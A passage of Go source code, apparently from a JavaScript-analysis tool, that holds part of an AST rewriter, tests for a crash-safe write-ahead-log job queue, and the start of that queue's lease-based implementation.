			n.Alternate = rewriteStmt(n.Alternate, f)
		}
	case *ast.ForStatement:
		switch init := n.Init.(type) {
		case *ast.VariableDeclaration:
			for _, d := range init.Declarations {
				if d.Init != nil {
					d.Init = rewriteExpr(d.Init, f)
				}
			}
		case ast.Expression:
			n.Init = rewriteExpr(init, f)
		}
		if n.Test != nil {
			n.Test = rewriteExpr(n.Test, f)
		}
		if n.Update != nil {
			n.Update = rewriteExpr(n.Update, f)
		}
		n.Body = rewriteStmt(n.Body, f)
	case *ast.ForInStatement:
		if left, ok := n.Left.(ast.Expression); ok {
			n.Left = rewriteExpr(left, f)
		}
		n.Right = rewriteExpr(n.Right, f)
		n.Body = rewriteStmt(n.Body, f)
	case *ast.WhileStatement:
		n.Test = rewriteExpr(n.Test, f)
		n.Body = rewriteStmt(n.Body, f)
	case *ast.DoWhileStatement:
		n.Body = rewriteStmt(n.Body, f)
		n.Test = rewriteExpr(n.Test, f)
	case *ast.LabeledStatement:
		n.Body = rewriteStmt(n.Body, f)
	case *ast.SwitchStatement:
		n.Discriminant = rewriteExpr(n.Discriminant, f)
		for _, c := range n.Cases {
			if c.Test != nil {
				c.Test = rewriteExpr(c.Test, f)
			}
			for i, cs := range c.Consequent {
				c.Consequent[i] = rewriteStmt(cs, f)
			}
		}
	case *ast.ThrowStatement:
		n.Argument = rewriteExpr(n.Argument, f)
	case *ast.TryStatement:
		rewriteBlock(n.Block, f)
		if n.Handler != nil {
			rewriteBlock(n.Handler.Body, f)
		}
		if n.Finalizer != nil {
			rewriteBlock(n.Finalizer, f)
		}
	case *ast.WithStatement:
		n.Object = rewriteExpr(n.Object, f)
		n.Body = rewriteStmt(n.Body, f)
	}
	return s
}

func rewriteBlock(b *ast.BlockStatement, f ExprRewriter) {
	for i, s := range b.Body {
		b.Body[i] = rewriteStmt(s, f)
	}
}

func rewriteExpr(e ast.Expression, f ExprRewriter) ast.Expression {
	if e == nil {
		return nil
	}
	switch n := e.(type) {
	case *ast.ArrayExpression:
		for i, el := range n.Elements {
			if el != nil {
				n.Elements[i] = rewriteExpr(el, f)
			}
		}
	case *ast.ObjectExpression:
		for _, p := range n.Properties {
			// Keys stay untouched: rewriting them would change property
			// names. Values recurse.
			p.Value = rewriteExpr(p.Value, f)
		}
	case *ast.FunctionExpression:
		rewriteBlock(n.Body, f)
	case *ast.UnaryExpression:
		n.Argument = rewriteExpr(n.Argument, f)
	case *ast.UpdateExpression:
		n.Argument = rewriteExpr(n.Argument, f)
	case *ast.BinaryExpression:
		n.Left = rewriteExpr(n.Left, f)
		n.Right = rewriteExpr(n.Right, f)
	case *ast.LogicalExpression:
		n.Left = rewriteExpr(n.Left, f)
		n.Right = rewriteExpr(n.Right, f)
	case *ast.AssignmentExpression:
		n.Left = rewriteExpr(n.Left, f)
		n.Right = rewriteExpr(n.Right, f)
	case *ast.ConditionalExpression:
		n.Test = rewriteExpr(n.Test, f)
		n.Consequent = rewriteExpr(n.Consequent, f)
		n.Alternate = rewriteExpr(n.Alternate, f)
	case *ast.CallExpression:
		n.Callee = rewriteExpr(n.Callee, f)
		for i, a := range n.Arguments {
			n.Arguments[i] = rewriteExpr(a, f)
		}
	case *ast.NewExpression:
		n.Callee = rewriteExpr(n.Callee, f)
		for i, a := range n.Arguments {
			n.Arguments[i] = rewriteExpr(a, f)
		}
	case *ast.MemberExpression:
		n.Object = rewriteExpr(n.Object, f)
		if n.Computed {
			n.Property = rewriteExpr(n.Property, f)
		}
	case *ast.SequenceExpression:
		for i, x := range n.Expressions {
			n.Expressions[i] = rewriteExpr(x, f)
		}
	}
	return f(e)
}
