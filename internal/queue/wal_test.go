package queue

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestRecordRoundTrip(t *testing.T) {
	payloads := [][]byte{nil, {}, []byte("x"), bytes.Repeat([]byte("abc"), 10_000)}
	var buf []byte
	for _, p := range payloads {
		buf = appendRecord(buf, p)
	}
	off := 0
	for i, want := range payloads {
		got, n, err := decodeRecord(buf[off:])
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("record %d: payload mismatch (%d vs %d bytes)", i, len(got), len(want))
		}
		off += n
	}
	if _, _, err := decodeRecord(buf[off:]); !errors.Is(err, io.EOF) {
		t.Fatalf("clean end = %v, want io.EOF", err)
	}
}

func TestDecodeRecordRejectsCorruption(t *testing.T) {
	rec := appendRecord(nil, []byte("hello wal"))
	for _, tc := range []struct {
		name string
		mut  func([]byte) []byte
		want error
	}{
		{"short header", func(b []byte) []byte { return b[:5] }, errShortRecord},
		{"short payload", func(b []byte) []byte { return b[:len(b)-3] }, errShortRecord},
		{"flipped payload bit", func(b []byte) []byte {
			c := bytes.Clone(b)
			c[recordHeaderLen] ^= 0x40
			return c
		}, errChecksum},
		{"flipped checksum bit", func(b []byte) []byte {
			c := bytes.Clone(b)
			c[5] ^= 0x01
			return c
		}, errChecksum},
		{"absurd length", func(b []byte) []byte {
			c := bytes.Clone(b)
			c[0], c[1], c[2], c[3] = 0xff, 0xff, 0xff, 0xff
			return c
		}, errTooLarge},
	} {
		if _, _, err := decodeRecord(tc.mut(rec)); !errors.Is(err, tc.want) {
			t.Errorf("%s: err = %v, want %v", tc.name, err, tc.want)
		}
	}
}

// corruptTail flips bits near the end of the newest segment, simulating a
// torn write (power loss mid-append).
func corruptTail(t *testing.T, dir string, cut int) string {
	t.Helper()
	seqs, err := listSegments(dir)
	if err != nil || len(seqs) == 0 {
		t.Fatalf("no segments to corrupt: %v", err)
	}
	path := filepath.Join(dir, segName(seqs[len(seqs)-1]))
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if cut >= len(data) {
		t.Fatalf("segment only %d bytes, cannot cut %d", len(data), cut)
	}
	if err := os.WriteFile(path, data[:len(data)-cut], 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestTornWriteRecoversEarlierRecords is the satellite's torn-write test:
// chop bytes off the active segment's tail and assert every record before
// the tear survives recovery, with the file truncated back to health.
func TestTornWriteRecoversEarlierRecords(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	q := openQ(t, dir, opts)
	for i := 0; i < 10; i++ {
		if err := q.Enqueue(fmt.Sprintf("j%d", i), 0, []byte("payload")); err != nil {
			t.Fatal(err)
		}
	}
	q.Abandon()

	// Tear mid-record: the last enqueue is lost, the other nine survive.
	path := corruptTail(t, dir, 7)
	q2 := openQ(t, dir, fastOpts())
	if d := q2.Depth(); d != 9 {
		t.Fatalf("depth after torn-tail recovery = %d, want 9", d)
	}
	if _, err := q2.Get("j9"); !errors.Is(err, ErrNotFound) {
		t.Errorf("torn job present after recovery: %v", err)
	}
	for i := 0; i < 9; i++ {
		if _, err := q2.Get(fmt.Sprintf("j%d", i)); err != nil {
			t.Errorf("job j%d lost to an unrelated tear: %v", i, err)
		}
	}
	// The torn file was truncated to its last healthy record, so the next
	// open sees a clean log.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	off := 0
	for off < len(data) {
		_, n, err := decodeRecord(data[off:])
		if err != nil {
			t.Fatalf("truncated segment still corrupt at %d: %v", off, err)
		}
		off += n
	}
	// New writes append cleanly after recovery.
	if err := q2.Enqueue("fresh", 0, nil); err != nil {
		t.Fatal(err)
	}
	q2.Close()
	q3 := openQ(t, dir, fastOpts())
	if d := q3.Depth(); d != 10 {
		t.Errorf("depth after post-recovery writes = %d, want 10", d)
	}
}

// TestBitFlipMidSegment: corruption in the middle of a segment truncates
// from the damaged record onward but never panics or fails the open.
func TestBitFlipMidSegment(t *testing.T) {
	dir := t.TempDir()
	q := openQ(t, dir, fastOpts())
	for i := 0; i < 6; i++ {
		q.Enqueue(fmt.Sprintf("j%d", i), 0, bytes.Repeat([]byte("x"), 100))
	}
	q.Abandon()

	seqs, _ := listSegments(dir)
	path := filepath.Join(dir, segName(seqs[len(seqs)-1]))
	data, _ := os.ReadFile(path)
	// Flip a bit roughly halfway in: a mid-log record's payload.
	mut := bytes.Clone(data)
	mut[len(mut)/2] ^= 0x10
	os.WriteFile(path, mut, 0o644)

	q2 := openQ(t, dir, fastOpts())
	d := q2.Depth()
	if d >= 6 || d < 1 {
		t.Errorf("depth after mid-segment bit flip = %d, want 1..5 (prefix survives)", d)
	}
}

func TestSegmentRotation(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	opts.SegmentBytes = 512 // force rotation quickly
	q := openQ(t, dir, opts)
	for i := 0; i < 30; i++ {
		if err := q.Enqueue(fmt.Sprintf("j%d", i), 0, bytes.Repeat([]byte("y"), 64)); err != nil {
			t.Fatal(err)
		}
	}
	seqs, err := listSegments(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(seqs) < 3 {
		t.Fatalf("only %d segments after 30 oversized enqueues, rotation broken", len(seqs))
	}
	q.Close()
	q2 := openQ(t, dir, fastOpts())
	if d := q2.Depth(); d != 30 {
		t.Errorf("depth across %d segments = %d, want 30", len(seqs), d)
	}
}

func TestCompactionShrinksWALAndPreservesState(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	opts.SegmentBytes = 1 << 20
	q := openQ(t, dir, opts)
	// Lots of churn: enqueue+ack leaves long-dead WAL weight behind.
	for i := 0; i < 200; i++ {
		id := fmt.Sprintf("churn-%d", i)
		q.Enqueue(id, 0, bytes.Repeat([]byte("z"), 256))
		l := mustLease(t, q, "w")
		l.Ack(nil)
	}
	// Live state to preserve: a done job with a result, a once-retried
	// pending job, and a plain pending job.
	q.Enqueue("keep-done", 0, nil)
	ld := mustLease(t, q, "w")
	if ld.Job.ID != "keep-done" {
		t.Fatalf("leased %s, want keep-done", ld.Job.ID)
	}
	if err := ld.Ack([]byte("kept-result")); err != nil {
		t.Fatal(err)
	}
	q.Enqueue("keep-pending-1", 2, []byte("p1"))
	l := mustLease(t, q, "w")
	if l.Job.ID != "keep-pending-1" {
		t.Fatalf("leased %s, want keep-pending-1", l.Job.ID)
	}
	l.Nack("make it retry once") // exercise attempt preservation
	q.Enqueue("keep-pending-2", 0, []byte("p2"))

	before := totalSegmentBytes(dir)
	if err := q.Compact(); err != nil {
		t.Fatal(err)
	}
	after := totalSegmentBytes(dir)
	if after >= before/2 {
		t.Errorf("compaction: %d -> %d bytes, expected a big shrink", before, after)
	}

	// All live state survives compaction and a reopen. The 200 churned
	// done jobs survive too (still within TTL) — compaction drops log
	// weight, not queryable results.
	q.Close()
	q2 := openQ(t, dir, fastOpts())
	if j, err := q2.Get("keep-pending-1"); err != nil || j.State != StatePending || j.Attempt != 1 || j.Priority != 2 {
		t.Errorf("keep-pending-1 after compaction = %+v err %v", j, err)
	}
	if j, err := q2.Get("keep-done"); err != nil {
		t.Errorf("keep-done after compaction: %v", err)
	} else if j.State != StateDone || string(j.Result) != "kept-result" {
		t.Errorf("keep-done = %+v", j)
	}
	if j, err := q2.Get("churn-0"); err != nil || j.State != StateDone {
		t.Errorf("churn-0 after compaction = %+v err %v", j, err)
	}
	// keep-pending-2 and keep-pending-1 are still deliverable.
	seen := map[string]bool{}
	for i := 0; i < 2; i++ {
		l := mustLease(t, q2, "w")
		seen[l.Job.ID] = true
		l.Ack(nil)
	}
	if !seen["keep-pending-1"] || !seen["keep-pending-2"] {
		t.Errorf("post-compaction deliveries = %v", seen)
	}
}

// TestCrashMidCompactionLeavesConsistentState simulates dying between
// writing the snapshot and deleting the old segments: replay must land on
// the snapshot's state, not a blend.
func TestCrashMidCompactionLeavesConsistentState(t *testing.T) {
	dir := t.TempDir()
	q := openQ(t, dir, fastOpts())
	q.Enqueue("a", 0, nil)
	q.Enqueue("b", 0, nil)
	l := mustLease(t, q, "w")
	l.Ack([]byte("done-a"))
	q.Abandon()

	// Hand-write the snapshot the way Compact would, but "crash" before
	// removing the old segments: both generations coexist on disk.
	seqs, _ := listSegments(dir)
	rep, err := replay(dir, seqs)
	if err != nil {
		t.Fatal(err)
	}
	if err := writeSnapshot(dir, seqs[len(seqs)-1]+1, rep.jobs, rep.order, false); err != nil {
		t.Fatal(err)
	}

	q2 := openQ(t, dir, fastOpts())
	ja, err := q2.Get("a")
	if err != nil || ja.State != StateDone || string(ja.Result) != "done-a" {
		t.Fatalf("job a after mid-compaction crash = %+v err %v", ja, err)
	}
	jb, err := q2.Get("b")
	if err != nil || jb.State != StatePending {
		t.Fatalf("job b after mid-compaction crash = %+v err %v", jb, err)
	}
	// Exactly one copy of each job: lease b, and nothing else is eligible.
	lb := mustLease(t, q2, "w")
	if lb.Job.ID != "b" {
		t.Fatalf("leased %s, want b", lb.Job.ID)
	}
	if extra, err := q2.TryNext("w"); err != nil || extra != nil {
		t.Errorf("duplicate job after mid-compaction crash: %+v %v", extra, err)
	}
}

// TestStaleTmpSnapshotIgnored: a crash before the snapshot rename leaves a
// .tmp file that open must discard.
func TestStaleTmpSnapshotIgnored(t *testing.T) {
	dir := t.TempDir()
	q := openQ(t, dir, fastOpts())
	q.Enqueue("real", 0, nil)
	q.Abandon()
	tmp := filepath.Join(dir, segName(99)+tmpSuffix)
	if err := os.WriteFile(tmp, []byte("partial snapshot garbage"), 0o644); err != nil {
		t.Fatal(err)
	}
	q2 := openQ(t, dir, fastOpts())
	if d := q2.Depth(); d != 1 {
		t.Errorf("depth with stale tmp present = %d, want 1", d)
	}
	if _, err := os.Stat(tmp); !os.IsNotExist(err) {
		t.Errorf("stale tmp snapshot not cleaned up: %v", err)
	}
}

// TestReaperCompactsAutomatically drives enough churn that the reaper's
// dead-weight heuristic kicks in without an explicit Compact call: results
// expire on a short TTL, live weight collapses, and the WAL shrinks to a
// near-empty snapshot.
func TestReaperCompactsAutomatically(t *testing.T) {
	dir := t.TempDir()
	opts := fastOpts()
	opts.SegmentBytes = 2048
	opts.ReapInterval = 10 * time.Millisecond
	opts.ResultTTL = 30 * time.Millisecond
	q := openQ(t, dir, opts)
	for i := 0; i < 200; i++ {
		id := fmt.Sprintf("j%d", i)
		q.Enqueue(id, 0, bytes.Repeat([]byte("w"), 128))
		l := mustLease(t, q, "w")
		l.Ack(nil)
	}
	after := totalSegmentBytes(dir)
	if after < 2048 {
		t.Fatalf("churn produced only %d WAL bytes; test premise broken", after)
	}
	deadline := time.Now().Add(10 * time.Second)
	for totalSegmentBytes(dir) >= 2048 {
		if time.Now().After(deadline) {
			t.Fatalf("reaper never compacted; WAL still %d bytes", totalSegmentBytes(dir))
		}
		time.Sleep(20 * time.Millisecond)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	if _, err := q.Next(ctx, "w"); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("queue should be empty after churn, Next = %v", err)
	}
}
