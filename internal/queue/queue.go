// Package queue is a file-backed, crash-safe durable job queue: the
// persistence layer that lets the serve subsystem survive kill -9 without
// losing accepted work or finished results.
//
// Design, in one paragraph: every state transition (enqueue, lease, lease
// extension, ack, retry, dead-letter, removal) is appended to a write-ahead
// log of checksummed records before it takes effect in memory, segments
// rotate at a size threshold, and compaction periodically folds the live
// state into a snapshot segment (a reset marker plus one restore record per
// job) so the log never grows without bound. Opening a queue replays the
// segments in order, truncating torn or corrupt tails instead of failing —
// a process killed mid-append recovers everything up to its last complete
// record.
//
// Delivery semantics: jobs are delivered at-least-once under worker leases.
// Next hands a worker the highest-priority eligible job together with a
// lease token; the worker renews the lease via Heartbeat while it runs and
// commits the outcome with Ack or Nack. A lease that expires (worker hung,
// crashed, or partitioned) is reclaimed by the reaper goroutine and the job
// is rescheduled with capped exponential backoff + full jitter
// (internal/retry); after MaxAttempts failed deliveries the job moves to
// the dead-letter state instead of looping forever. Lease tokens fence
// stale workers: an Ack or Nack quoting a superseded token is rejected, so
// a reclaimed job can never have its result committed twice.
package queue

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"sync"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/retry"
)

// State is one job's position in the lease state machine:
//
//	pending --Next--> leased --Ack-->  done  --TTL--> removed
//	   ^                |
//	   |   Nack/expiry, attempts left
//	   +----------------+
//	                    | Nack/expiry, budget exhausted
//	                    +--> dead --TTL--> removed
type State string

// The job states. Pending jobs may carry a NotBefore time (retry backoff)
// delaying their next delivery.
const (
	// StatePending: waiting for a worker (possibly delayed by backoff).
	StatePending State = "pending"
	// StateLeased: a worker holds the job under a live lease.
	StateLeased State = "leased"
	// StateDone: finished successfully; Result holds the outcome.
	StateDone State = "done"
	// StateDead: failed MaxAttempts deliveries; parked for inspection.
	StateDead State = "dead"
)

// Queue API errors.
var (
	// ErrClosed: the queue has been closed (or abandoned by a crash test).
	ErrClosed = errors.New("queue: closed")
	// ErrExists: Enqueue with an id already present.
	ErrExists = errors.New("queue: job id already exists")
	// ErrNotFound: the job id is unknown.
	ErrNotFound = errors.New("queue: job not found")
	// ErrLeaseLost: the caller's lease token is stale — the lease expired
	// and the job was reclaimed (and possibly re-leased elsewhere).
	ErrLeaseLost = errors.New("queue: lease lost")
)

// Job is one queued unit of work. Payload and Result are opaque to the
// queue. Values returned by the API are snapshots; mutating them does not
// affect queue state.
type Job struct {
	// ID is the caller-chosen unique id.
	ID string
	// Priority orders delivery: higher first, FIFO within a priority.
	Priority int
	// Payload is the opaque work description.
	Payload []byte
	// Trace is the W3C traceparent of the request that enqueued the job,
	// persisted so a worker — even one started after a crash — can join
	// its spans to the submitter's trace. Empty when tracing is off.
	Trace string
	// Attempt counts failed deliveries so far.
	Attempt int
	// State is the job's current lifecycle state.
	State State
	// EnqueuedAt is the original submission time.
	EnqueuedAt time.Time
	// NotBefore delays a pending job's next delivery (retry backoff).
	NotBefore time.Time
	// LeaseExpiry is when the current lease lapses (leased jobs).
	LeaseExpiry time.Time
	// Owner identifies the current or last lease holder.
	Owner string
	// Result is the outcome committed by Ack (done jobs).
	Result []byte
	// LastErr is the most recent failure reason (retrying and dead jobs).
	LastErr string
	// DoneAt is when the job reached done or dead.
	DoneAt time.Time

	seq     uint64 // FIFO tiebreak within a priority
	token   string // current lease fencing token
	readyIx int    // index in the ready heap, -1 when absent
	delayIx int    // index in the delayed heap, -1 when absent
}

// snapshot returns a caller-safe copy.
func (j *Job) snapshot() Job {
	c := *j
	c.token = ""
	return c
}

// Lease is one delivery of a job to a worker: the job snapshot plus the
// fencing token the worker must present to Heartbeat, Ack, or Nack.
type Lease struct {
	// Job is the delivered job as of lease time.
	Job Job
	// Expiry is when the lease lapses unless renewed.
	Expiry time.Time

	q     *Queue
	token string
}

// Options tunes a queue. The zero value is production-ready: 4MiB
// segments, 5 delivery attempts, 30s leases, 1s reaping, 10min result
// retention, fsync on every record.
type Options struct {
	// SegmentBytes rotates the active WAL segment beyond this size;
	// <= 0 means 4MiB.
	SegmentBytes int64
	// MaxAttempts is the delivery budget before dead-letter; <= 0 means 5.
	MaxAttempts int
	// LeaseDuration is how long one delivery may run between heartbeats;
	// <= 0 means 30s.
	LeaseDuration time.Duration
	// Backoff schedules retries; the zero value is retry's default policy
	// (100ms base, 30s cap, factor 2, full jitter).
	Backoff retry.Policy
	// ReapInterval is the reaper's scan period; <= 0 means 1s.
	ReapInterval time.Duration
	// ResultTTL is how long done and dead jobs stay queryable before
	// removal; <= 0 means 10min.
	ResultTTL time.Duration
	// NoSync disables per-record fsync. Only tests should set this: it
	// trades crash durability for speed.
	NoSync bool
	// Registry receives the jsrevealer_queue_* metrics; nil means
	// obs.Default().
	Registry *obs.Registry

	now func() time.Time // test clock; nil means time.Now
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 4 << 20
	}
	if o.MaxAttempts <= 0 {
		o.MaxAttempts = 5
	}
	if o.LeaseDuration <= 0 {
		o.LeaseDuration = 30 * time.Second
	}
	if o.ReapInterval <= 0 {
		o.ReapInterval = time.Second
	}
	if o.ResultTTL <= 0 {
		o.ResultTTL = 10 * time.Minute
	}
	if o.Registry == nil {
		o.Registry = obs.Default()
	}
	if o.now == nil {
		o.now = time.Now
	}
	return o
}

// tombstoneCap bounds the remembered-removal set: enough to answer "did
// this job exist?" for every id a polling client could plausibly still
// hold, without growing forever.
const tombstoneCap = 4096

// Queue is a durable job queue over one directory. All methods are safe
// for concurrent use. Open one Queue per directory per process; the WAL is
// not a multi-process coordination protocol.
type Queue struct {
	dir  string
	opts Options
	met  *metrics

	mu      sync.Mutex
	jobs    map[string]*Job
	ready   readyHeap
	delayed delayHeap
	seg     *segment
	nextSeq uint64 // in-memory FIFO sequence
	closed  bool

	// tombstones remember removed job ids (bounded FIFO) so callers can
	// distinguish "expired" from "never existed".
	gone      map[string]struct{}
	goneOrder []string

	notify  chan struct{}
	closeCh chan struct{}
	wg      sync.WaitGroup
}

// Open opens (creating if needed) the durable queue in dir, replaying the
// WAL: torn tails are truncated, leased jobs from a crashed process are
// rescheduled (their interrupted delivery counts against the retry
// budget), and expired results are dropped. The returned queue runs a
// reaper goroutine until Close.
func Open(dir string, opts Options) (*Queue, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("queue: create dir: %w", err)
	}
	seqs, err := listSegments(dir)
	if err != nil {
		return nil, fmt.Errorf("queue: list segments: %w", err)
	}
	rep, err := replay(dir, seqs)
	if err != nil {
		return nil, err
	}
	q := &Queue{
		dir:     dir,
		opts:    opts,
		met:     newMetrics(opts.Registry),
		jobs:    rep.jobs,
		gone:    make(map[string]struct{}),
		notify:  make(chan struct{}, 1),
		closeCh: make(chan struct{}),
	}
	q.seg, err = openSegment(dir, rep.nextSeq, !opts.NoSync)
	if err != nil {
		return nil, fmt.Errorf("queue: open segment: %w", err)
	}
	q.recover(rep)
	q.met.depth.Set(float64(q.depthLocked()))
	q.wg.Add(1)
	go q.reapLoop()
	return q, nil
}

// recover finishes Open: index the replayed jobs into the heaps, reschedule
// orphaned leases, and drop expired results. Runs before the queue is
// shared, so no locking.
func (q *Queue) recover(rep *replayResult) {
	now := q.opts.now()
	for _, id := range rep.order {
		j, ok := q.jobs[id]
		if !ok {
			// The job was removed by a later event; its order entry is stale.
			continue
		}
		j.seq = q.nextSeq
		q.nextSeq++
		j.readyIx, j.delayIx = -1, -1
		switch j.State {
		case StateLeased:
			// The lease holder died with the process. Count the
			// interrupted delivery against the budget — a job that crashes
			// its worker every time must land in dead-letter, not
			// crash-loop forever — and reschedule immediately: the backoff
			// already happened (the process was down).
			q.failLocked(j, now, "lease holder crashed", false)
			if j.State != StateDead {
				q.met.recovered.Inc()
			}
		case StatePending:
			q.scheduleLocked(j, now)
			q.met.recovered.Inc()
		case StateDone, StateDead:
			if !j.DoneAt.IsZero() && now.Sub(j.DoneAt) > q.opts.ResultTTL {
				q.removeLocked(j)
			}
		}
	}
}

// Close stops the reaper and closes the WAL. Blocked Next callers return
// ErrClosed. Pending and leased state stays on disk for the next Open.
func (q *Queue) Close() error {
	q.mu.Lock()
	if q.closed {
		q.mu.Unlock()
		return nil
	}
	q.closed = true
	close(q.closeCh)
	err := q.seg.close()
	q.mu.Unlock()
	q.wg.Wait()
	return err
}

// Abandon simulates a process crash for fault-injection tests: the queue
// stops accepting operations and the reaper exits, but nothing is flushed
// or cleaned up — on-disk state is exactly what the synchronous appends
// already made durable. The directory can be re-Opened as if the process
// had been kill -9'd.
func (q *Queue) Abandon() {
	q.mu.Lock()
	if !q.closed {
		q.closed = true
		close(q.closeCh)
	}
	q.mu.Unlock()
	q.wg.Wait()
}

// Enqueue appends a new pending job. The id must be unique for the life of
// the queue directory; higher priorities deliver first.
func (q *Queue) Enqueue(id string, priority int, payload []byte) error {
	return q.EnqueueTrace(id, priority, payload, "")
}

// EnqueueTrace is Enqueue with the submitter's trace context (a W3C
// traceparent header value) persisted alongside the job, so spans emitted
// by whichever worker eventually runs it — on this process or a restarted
// one — join the original trace.
func (q *Queue) EnqueueTrace(id string, priority int, payload []byte, trace string) error {
	if id == "" {
		return errors.New("queue: empty job id")
	}
	if len(payload) > maxRecordBytes/2 {
		return fmt.Errorf("queue: payload exceeds %d bytes", maxRecordBytes/2)
	}
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	if _, ok := q.jobs[id]; ok {
		return ErrExists
	}
	now := q.opts.now()
	if err := q.appendLocked(walEvent{
		Op: opEnqueue, ID: id, Priority: priority, Payload: payload, Trace: trace, At: now.UnixNano(),
	}); err != nil {
		return err
	}
	j := &Job{
		ID:         id,
		Priority:   priority,
		Payload:    payload,
		Trace:      trace,
		State:      StatePending,
		EnqueuedAt: now,
		seq:        q.nextSeq,
		readyIx:    -1,
		delayIx:    -1,
	}
	q.nextSeq++
	q.jobs[id] = j
	q.scheduleLocked(j, now)
	q.met.enqueued.Inc()
	q.met.depth.Set(float64(q.depthLocked()))
	q.signalLocked()
	return nil
}

// Next blocks until an eligible job can be leased to owner (or ctx ends,
// or the queue closes) and delivers it under a fresh lease.
func (q *Queue) Next(ctx context.Context, owner string) (*Lease, error) {
	for {
		q.mu.Lock()
		if q.closed {
			q.mu.Unlock()
			return nil, ErrClosed
		}
		now := q.opts.now()
		q.promoteLocked(now)
		if j := q.popReadyLocked(); j != nil {
			l, err := q.leaseLocked(j, owner, now)
			// More work may be eligible; chain the wakeup to the next waiter.
			if q.ready.Len() > 0 {
				q.signalLocked()
			}
			q.mu.Unlock()
			if err != nil {
				return nil, err
			}
			return l, nil
		}
		var timerC <-chan time.Time
		var timer *time.Timer
		if q.delayed.Len() > 0 {
			d := q.delayed[0].NotBefore.Sub(now)
			if d < time.Millisecond {
				d = time.Millisecond
			}
			timer = time.NewTimer(d)
			timerC = timer.C
		}
		q.mu.Unlock()
		select {
		case <-ctx.Done():
			if timer != nil {
				timer.Stop()
			}
			return nil, ctx.Err()
		case <-q.closeCh:
			if timer != nil {
				timer.Stop()
			}
			return nil, ErrClosed
		case <-q.notify:
		case <-timerC:
		}
		if timer != nil {
			timer.Stop()
		}
	}
}

// TryNext is the non-blocking Next: it returns (nil, nil) when no job is
// eligible right now.
func (q *Queue) TryNext(owner string) (*Lease, error) {
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return nil, ErrClosed
	}
	now := q.opts.now()
	q.promoteLocked(now)
	j := q.popReadyLocked()
	if j == nil {
		return nil, nil
	}
	return q.leaseLocked(j, owner, now)
}

// leaseLocked turns a popped pending job into a live lease.
func (q *Queue) leaseLocked(j *Job, owner string, now time.Time) (*Lease, error) {
	expiry := now.Add(q.opts.LeaseDuration)
	if err := q.appendLocked(walEvent{
		Op: opLease, ID: j.ID, Owner: owner, At: now.UnixNano(), Deadline: expiry.UnixNano(),
	}); err != nil {
		// The lease never became durable; put the job back.
		q.scheduleLocked(j, now)
		return nil, err
	}
	j.State = StateLeased
	j.Owner = owner
	j.LeaseExpiry = expiry
	j.token = newToken()
	return &Lease{Job: j.snapshot(), Expiry: expiry, q: q, token: j.token}, nil
}

// Heartbeat renews the lease for another LeaseDuration. ErrLeaseLost means
// the lease already expired and the job was reclaimed — the worker should
// abandon the attempt.
func (l *Lease) Heartbeat() error {
	q := l.q
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, err := q.heldLocked(l)
	if err != nil {
		return err
	}
	now := q.opts.now()
	expiry := now.Add(q.opts.LeaseDuration)
	if err := q.appendLocked(walEvent{
		Op: opExtend, ID: j.ID, At: now.UnixNano(), Deadline: expiry.UnixNano(),
	}); err != nil {
		return err
	}
	j.LeaseExpiry = expiry
	l.Expiry = expiry
	return nil
}

// Ack commits the job as done with result. A stale lease gets
// ErrLeaseLost and commits nothing — the fencing that prevents duplicate
// results when a slow worker loses its lease to the reaper.
func (l *Lease) Ack(result []byte) error {
	q := l.q
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, err := q.heldLocked(l)
	if err != nil {
		return err
	}
	now := q.opts.now()
	if err := q.appendLocked(walEvent{
		Op: opAck, ID: j.ID, Result: result, At: now.UnixNano(),
	}); err != nil {
		return err
	}
	j.State = StateDone
	j.Result = result
	// The work description is dead weight once the outcome is committed;
	// dropping it keeps memory and compaction snapshots proportional to
	// results, not submissions. (Dead jobs keep theirs for inspection.)
	j.Payload = nil
	j.DoneAt = now
	j.Owner = ""
	j.LeaseExpiry = zeroTime
	j.token = ""
	q.met.depth.Set(float64(q.depthLocked()))
	return nil
}

// Nack reports a failed delivery: the job is rescheduled with backoff, or
// dead-lettered once its attempt budget is spent.
func (l *Lease) Nack(reason string) error {
	q := l.q
	q.mu.Lock()
	defer q.mu.Unlock()
	if q.closed {
		return ErrClosed
	}
	j, err := q.heldLocked(l)
	if err != nil {
		return err
	}
	q.failLocked(j, q.opts.now(), reason, true)
	q.met.depth.Set(float64(q.depthLocked()))
	q.signalLocked()
	return nil
}

// heldLocked resolves a lease to its job, verifying the fencing token.
func (q *Queue) heldLocked(l *Lease) (*Job, error) {
	j, ok := q.jobs[l.Job.ID]
	if !ok {
		return nil, ErrNotFound
	}
	if j.State != StateLeased || l.token == "" || j.token != l.token {
		return nil, ErrLeaseLost
	}
	return j, nil
}

// failLocked applies one failed delivery to j: retry with backoff while
// attempts remain, dead-letter otherwise. backoff=false reschedules
// immediately (crash recovery — the downtime was the backoff).
func (q *Queue) failLocked(j *Job, now time.Time, reason string, backoff bool) {
	j.Attempt++
	j.token = ""
	if j.Attempt >= q.opts.MaxAttempts {
		// Budget exhausted: dead-letter. WAL first, memory second.
		q.appendLocked(walEvent{
			Op: opDead, ID: j.ID, Attempt: j.Attempt, Err: reason, At: now.UnixNano(),
		})
		j.State = StateDead
		j.LastErr = reason
		j.DoneAt = now
